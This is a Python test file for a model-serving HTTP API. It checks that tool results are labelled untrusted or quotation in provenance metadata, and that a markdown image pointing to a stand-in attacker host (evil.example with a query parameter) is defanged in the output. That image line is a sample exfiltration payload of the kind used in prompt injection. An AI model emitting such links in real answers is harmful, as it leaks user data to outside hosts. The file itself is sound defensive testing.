"""What a client of the HTTP API gets, where a stranger's words may be in the answer."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from cabinos.kernel.driver import tool
from tests.kernel.models import ScriptedModel, calls
from tests.serve.served import Served, served

WORDS = "the council wants every bill to be paid by Friday at the town hall"
IMAGE = "![x](http://evil.example/?q=42)"
SAID = f"It says {WORDS}. {IMAGE}"
SHOWN = f"It says {WORDS}. ![x] (‹evil.example/?q=42›)"
HELLO = [{"role": "user", "content": "hello"}]


@tool(effect="pure")
async def rumour() -> str:
    """What is said out there."""
    return f"It is said that {WORDS}, or so."


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Served]:
    model = ScriptedModel(calls(("rumour", {}), text="I look."), SAID)
    with served(tmp_path, model, tools=[rumour]) as running:
        yield running


def check(text: str, provenance: list[dict]) -> None:
    whole, quotation = provenance
    assert (whole["type"], whole["sources"]) == ("untrusted", ["rumour"])
    assert text[whole["start_index"] : whole["end_index"]] == SHOWN
    assert (quotation["type"], quotation["sources"]) == ("quotation", ["rumour"])
    assert WORDS in text[quotation["start_index"] : quotation["end_index"]]


def test_chat_completions(server: Served) -> None:
    answer = server.client().chat.completions.create(model="cabin", messages=HELLO)
    message = answer.choices[0].message
    assert message.content == f"I look.\n\n{SHOWN}"
    check(message.content, message.model_extra["provenance"])


def test_a_stream_of_chat_completions(server: Served) -> None:
    chunks = list(
        server.client().chat.completions.create(model="cabin", messages=HELLO, stream=True)
    )
    deltas = [chunk.choices[0].delta for chunk in chunks]
    text = "".join(delta.content or "" for delta in deltas)
    assert text == f"I look.\n\n{SHOWN}"
    (told,) = [d.model_extra["provenance"] for d in deltas if "provenance" in d.model_extra]
    check(text, told)


def test_responses_and_how_they_are_retold(server: Served) -> None:
    client = server.client()
    answer = client.responses.create(model="cabin", input="hello")
    first, _, last = answer.output
    assert "provenance" not in first.model_extra  # nothing was read by then
    assert answer.output_text == f"I look.{SHOWN}"
    check(SHOWN, last.model_extra["provenance"])
    again = client.responses.retrieve(answer.id)
    assert again.model_dump()["output"] == answer.model_dump()["output"]


def test_a_question_is_the_models_words_too(tmp_path: Path) -> None:
    model = ScriptedModel(calls(("rumour", {})), calls(("ask", {"question": f"Like it? {IMAGE}"})))
    with served(tmp_path, model, tools=[rumour]) as server:
        answer = server.client().responses.create(model="cabin", input="hello")
        assert answer.output_text == "Like it? ![x] (‹evil.example/?q=42›)"


def test_a_plain_model_says_what_it_says(tmp_path: Path) -> None:
    told = [
        *HELLO,
        {"role": "assistant", "tool_calls": [
            {"id": "c", "type": "function", "function": {"name": "f", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "c", "content": WORDS},
    ]  # fmt: skip
    with served(tmp_path, ScriptedModel(SAID)) as server:
        answer = server.client().chat.completions.create(model="scripted", messages=told)
        assert answer.choices[0].message.content == SAID
        assert "provenance" not in answer.choices[0].message.model_extra
